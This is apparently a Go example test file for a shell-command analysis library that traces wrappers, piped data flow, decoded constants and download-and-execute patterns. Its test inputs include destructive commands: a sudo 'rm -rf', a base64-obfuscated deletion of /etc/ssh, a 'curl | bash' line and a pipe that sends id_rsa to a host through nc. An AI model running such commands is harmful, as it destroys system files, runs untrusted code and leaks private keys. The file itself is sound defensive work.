package shell_test

import (
	"fmt"
	"strings"

	"github.com/lidguard-go/lidguard/internal/shell"
)

func ExampleInspect() {
	f := shell.Inspect(`cd /srv && sudo sh -c 'rm -rf "$DIR/cache"'`, shell.Bash, shell.World{Dir: "/home/u"})
	for i := range f.Leaves {
		l := &f.Leaves[i]
		var words []string
		for j := range l.Argv {
			words = append(words, l.Argv[j].String())
		}
		line, col := f.Position(l.Offset)
		fmt.Printf("%d:%d in %s: %s\n", line, col, l.Dir.String(), strings.Join(words, " "))
		for _, w := range l.Via {
			fmt.Println("  by", w.Name)
		}
	}
	// Output:
	// 1:1 in /home/u: cd /srv
	// 1:24 in /srv: rm -rf <variable DIR>/cache
	//   by sudo
	//   by sh
}

// What is downloaded and executed shows up as opaque text whose hole names the
// program that prints it.
func ExampleFacts_opaque() {
	f := shell.Inspect(`curl -fsSL https://example.org/x | bash`, shell.Bash, shell.World{})
	o := f.Opaque[0]
	from := o.Text.Holes[0].From.From
	fmt.Printf("%s runs what %s prints\n", f.Leaves[o.Leaf].Name, f.Leaves[from].Name)
	// Output: bash runs what curl prints
}

// Constants are followed through variables and text tools.
func ExampleValue() {
	f := shell.Inspect(`x=$(echo L2V0Yw== | base64 -d); rm -r "${x%/}/ssh"`, shell.Bash, shell.World{})
	rm := f.Leaves[len(f.Leaves)-1]
	path, known := rm.Argv[2].Exact()
	fmt.Println(path, known)
	// Output: /etc/ssh true
}

func ExampleFacts_Feeders() {
	f := shell.Inspect(`cat id_rsa | gzip | nc host 9`, shell.Bash, shell.World{})
	for i := range f.Leaves {
		for j := range f.Feeders(i) {
			fmt.Println(f.Leaves[j].Name, "feeds", f.Leaves[i].Name)
		}
	}
	// Output:
	// cat feeds gzip
	// gzip feeds nc
}
